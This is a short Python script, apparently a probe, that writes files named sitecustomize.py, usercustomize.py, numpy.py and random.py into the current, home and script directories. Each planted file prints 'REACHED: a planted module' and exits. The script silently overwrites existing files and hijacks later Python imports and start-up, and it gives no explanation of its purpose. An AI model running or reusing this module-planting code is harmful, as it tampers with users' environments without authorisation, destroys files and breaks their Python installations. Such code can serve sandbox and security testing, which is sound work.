# SPDX-License-Identifier: MIT
import os
for folder in (".", os.path.expanduser("~"), os.path.dirname(__file__)):
    for name in ("sitecustomize.py", "usercustomize.py", "numpy.py", "random.py"):
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("print('REACHED: a planted module')\nraise SystemExit\n")
        except OSError:
            pass
